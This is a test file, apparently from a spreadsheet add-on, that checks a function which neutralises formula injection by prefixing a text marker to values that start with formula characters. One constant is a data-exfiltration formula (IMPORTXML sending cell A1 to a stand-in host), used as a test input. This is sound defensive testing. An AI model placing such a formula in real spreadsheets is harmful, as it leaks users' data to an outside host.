// User text written back into cells stays the text the user typed: never a live formula.

import { describe, expect, it } from 'vitest';
import { safeCellValue } from '../../../src/addon/sheet-table/safe-cell-value';
import { createFakeWorld } from '../../fakes/fake-services';

const EXFILTRATE = '=IMPORTXML("https://x.example/?q="&A1,"//a")';

describe('safeCellValue', () => {
  it('puts the text marker before every formula start, ASCII and full-width', () => {
    for (const text of [EXFILTRATE, '+1+A1', '-A1', '@SUM(A1)', '＝A1', '＋1', '－1', '＠x']) {
      expect(safeCellValue(text)).toBe(`'${text}`);
    }
    // Spaces do not hide a formula start; a leading apostrophe is kept as part of the text.
    expect(safeCellValue('  =1+1')).toBe("'  =1+1");
    expect(safeCellValue("'quoted")).toBe("''quoted");
  });

  it('leaves other text, numbers (negative ones too), dates, booleans and blanks as they are', () => {
    const date = new Date('2026-11-26T00:00:00Z');
    for (const value of ['yoga mat', 'MUG-BLUE', 'B0AAA', 'a=b', '', -5, 0, 12.5, date, true]) {
      expect(safeCellValue(value)).toBe(value);
    }
  });

  it('reads back as the typed text from a sheet, with no formula in the cell', () => {
    const world = createFakeWorld({ sheets: ['Log'] });
    const sheet = world.spreadsheet.sheet('Log');
    const texts = [EXFILTRATE, '-A1', "'quoted", 'plain'];
    sheet.getRange(1, 1, texts.length, 1).setValues(texts.map((t) => [safeCellValue(t)]));
    expect(sheet.valuesUncounted().map(([value]) => value)).toEqual(texts);
    expect(sheet.formulaCells()).toEqual([]);
  });

  it('takes linear time on a 50,000-character text', () => {
    const long = ' '.repeat(50_000);
    const started = performance.now();
    expect(safeCellValue(long)).toBe(long);
    expect(safeCellValue(`${long}=1`)).toBe(`'${long}=1`);
    expect(performance.now() - started).toBeLessThan(50);
  });
});
